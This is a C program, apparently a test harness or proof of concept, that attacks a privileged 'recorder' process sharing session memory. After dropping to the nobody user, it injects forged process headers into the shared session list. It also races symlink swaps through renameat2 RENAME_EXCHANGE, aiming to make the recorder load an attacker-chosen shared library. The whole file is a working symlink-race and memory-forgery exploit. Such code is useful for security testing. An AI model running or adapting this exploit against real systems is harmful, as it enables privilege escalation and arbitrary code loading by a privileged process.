// victim: becomes nobody and names an allocator behind a link that it swaps (a folder, a library of root, its own library); flags: -pthread
#define _GNU_SOURCE
#include "session.h"
#include <grp.h>
#include <linux/fs.h>
#include <pthread.h>
#include <sys/syscall.h>
#include <time.h>

#define NAMES 90
#define FORGED 100

static char link_path[256], other_path[256];
static volatile int over;

static void *swaps(void *unused) {
    while (!over) syscall(SYS_renameat2, AT_FDCWD, link_path, AT_FDCWD, other_path, RENAME_EXCHANGE);
    return unused;
}

// The recorder asks each allocator once, so the link has its own name each time.
static void name_allocator(uint64_t header, const char *folder, int n) {
    char name[256];
    int len = snprintf(name, sizeof name, "%s", folder);
    for (int i = 0; i < n % NAMES; i++) len += snprintf(name + len, sizeof name - len, "/.");
    len += snprintf(name + len, sizeof name - len, "/link.so");
    if (len >= (int)sizeof name) len = sizeof name - 1;
    memcpy((void *)at(header + PROCESS_ALLOCATOR), name, len);
    *word_at(header + PROCESS_ALLOCATOR_LEN) = len;
}

int main(int argc, char **argv) {
    find_session();
    uint64_t own = own_header();
    if (argc < 4 || !own || !map_whole_arena() || setgroups(0, NULL) || setgid(65534) || setuid(65534)) return 2;
    // Before the recorder has read the name that is there.
    name_allocator(own, argv[1], 0);
    snprintf(link_path, sizeof link_path, "%s/link.so", argv[1]);
    snprintf(other_path, sizeof other_path, "%s/other.so", argv[1]);
    if (symlink(argv[2], link_path) || symlink(argv[3], other_path)) return 3;
    pthread_t thread;
    pthread_create(&thread, NULL, swaps, NULL);
    for (int n = 1; n <= FORGED; n++) {
        // A header of a process that never was, in this process's own memory: it can open no other any more.
        uint64_t forged = own + (32 << 20) + (uint64_t)n * (128 << 10);
        memcpy((void *)at(forged), (void *)at(own), PROCESS_ALLOCATOR);
        *word_at(forged + PROCESS_PID) = 3000000 + n;
        *long_at(forged + PROCESS_ARENAS) = forged;
        name_allocator(forged, argv[1], n);
        *long_at(forged + PROCESS_PREVIOUS) = *long_at(SESSION_NEWEST);
        *long_at(SESSION_NEWEST) = forged;
        nanosleep(&(struct timespec){0, 10000000}, NULL);
    }
    over = 1;
    pthread_join(thread, NULL);
    _exit(0);
}
